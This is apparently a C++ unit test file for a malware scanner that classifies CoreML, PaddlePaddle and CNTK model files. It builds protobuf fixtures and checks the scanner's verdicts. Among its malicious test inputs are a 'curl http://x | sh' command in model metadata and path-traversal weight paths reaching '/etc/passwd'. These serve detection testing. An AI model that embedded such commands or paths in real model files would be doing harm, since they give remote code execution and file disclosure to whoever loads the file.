#include "scan/proto_models.h"

#include <gtest/gtest.h>

#include "scan/test_support.h"

namespace hauberk::scan {
namespace {

Report proto_scan(const std::string& data, std::string_view name) { return scan_bytes(data, name); }

TEST(Coreml, classes_and_models_from_elsewhere_are_told) {
  const auto model = [](const std::string& more, const std::string& note = "words") {
    const auto metadata = wire_bytes(1, "short") + wire_bytes(100, wire_bytes(1, "note") + wire_bytes(2, note));
    return wire_varint(1, 4) + wire_bytes(2, wire_bytes(100, metadata)) + more;
  };
  struct Case {
    std::string data;
    ScanVerdict verdict;
  };
  const Case cases[] = {
      {model(wire_bytes(500, wire_bytes(1, wire_bytes(1, "layer")))), ScanVerdict::clean},
      {model(wire_bytes(500, wire_bytes(1, wire_bytes(500, wire_bytes(10, "MyLayer"))))), ScanVerdict::review},
      {model(wire_bytes(555, wire_bytes(10, "MyModel"))), ScanVerdict::review},
      {model(wire_bytes(202, wire_bytes(1, wire_varint(1, 4) + wire_bytes(555, wire_bytes(10, "Inner"))))),
       ScanVerdict::review},
      {model(wire_bytes(556, wire_bytes(1, wire_bytes(1, wire_bytes(1, "other.mlmodel"))))), ScanVerdict::review},
      {model(wire_bytes(556, wire_bytes(1, wire_bytes(1, wire_bytes(1, "../../other.mlmodel"))))),
       ScanVerdict::malicious},
      {model("", "import os; os.system('curl http://x | sh')"), ScanVerdict::malicious},
      {model("\xa2\x1f\x09x"), ScanVerdict::malformed},
  };
  for (const auto& c : cases) {
    EXPECT_EQ(proto_scan(c.data, "m.mlmodel").verdict, c.verdict);
    EXPECT_EQ(proto_scan(c.data, "m.mlmodel").format, "coreml");
  }
}

TEST(Coreml, weights_in_files_stay_within_the_model) {
  const auto program = [](const std::string& path) {
    const auto value = wire_bytes(5, wire_bytes(1, path) + wire_varint(2, 64));
    const auto operation = wire_bytes(1, "const") + wire_bytes(5, wire_bytes(1, "val") + wire_bytes(2, value));
    const auto block = wire_bytes(1, "CoreML5") + wire_bytes(2, wire_bytes(3, operation));
    const auto function = wire_bytes(2, "CoreML5") + wire_bytes(3, block);
    return wire_varint(1, 6) + wire_bytes(2, wire_bytes(100, wire_bytes(1, "short"))) +
           wire_bytes(502, wire_varint(1, 1) + wire_bytes(2, wire_bytes(1, "main") + wire_bytes(2, function)));
  };
  EXPECT_EQ(proto_scan(program("@model_path/weights/weight.bin"), "m.mlmodel").verdict, ScanVerdict::clean);
  for (const std::string path : {"@model_path/../../../etc/passwd", "@model_path//etc/passwd", "/etc/passwd", "../x"})
    EXPECT_EQ(proto_scan(program(path), "m.mlmodel").verdict, ScanVerdict::malicious) << path;
  // Where the format has no path, a loader may still find one.
  EXPECT_EQ(proto_scan(wire_varint(1, 6) + wire_bytes(2, wire_bytes(100, wire_bytes(1, "short"))) +
                           wire_bytes(502, wire_bytes(2, wire_bytes(2, wire_bytes(4, "@model_path/../x")))),
                       "m.mlmodel")
                .verdict,
            ScanVerdict::malicious);
}

TEST(Coreml, is_known_among_fields_that_loaders_skip) {
  const auto model = wire_bytes(99, "x") + wire_varint(1, 4) + wire_bytes(98, "") +
                     wire_bytes(2, wire_bytes(77, "x") + wire_bytes(100, wire_bytes(1, "short"))) +
                     wire_bytes(555, wire_bytes(10, "Mine"));
  EXPECT_EQ(proto_scan(model, "m.mlmodel").format, "coreml");
}

TEST(Paddle, operators_that_reach_python_or_files_are_told) {
  const auto program = [](const std::string& type, const std::string& path) {
    const auto op =
        wire_bytes(3, type) + wire_bytes(4, wire_bytes(1, "file_path") + wire_varint(2, 2) + wire_bytes(5, path));
    return wire_bytes(1, wire_varint(1, 0) + wire_varint(2, ~0ull) + wire_bytes(4, op)) +
           wire_bytes(5, wire_varint(1, 0));
  };
  EXPECT_EQ(proto_scan(program("matmul", ""), "m.pdmodel").verdict, ScanVerdict::clean);
  EXPECT_EQ(proto_scan(program("matmul", ""), "m.pdmodel").format, "paddle-program");
  EXPECT_EQ(proto_scan(program("py_func", ""), "m.pdmodel").verdict, ScanVerdict::malicious);
  EXPECT_EQ(proto_scan(program("save_combine", "weights"), "m.pdmodel").verdict, ScanVerdict::review);
  EXPECT_EQ(proto_scan(program("load", "/etc/passwd"), "m.pdmodel").verdict, ScanVerdict::malicious);
}

TEST(Cntk, is_told_to_be_old) {
  const auto model = wire_varint(1, 1) + wire_bytes(2, wire_bytes(1, "version") + wire_bytes(2, wire_varint(1, 1)));
  EXPECT_EQ(proto_scan(model, "m.dnn").format, "cntk");
  EXPECT_EQ(proto_scan(model, "m.dnn").verdict, ScanVerdict::review);
}

}  // namespace
}  // namespace hauberk::scan
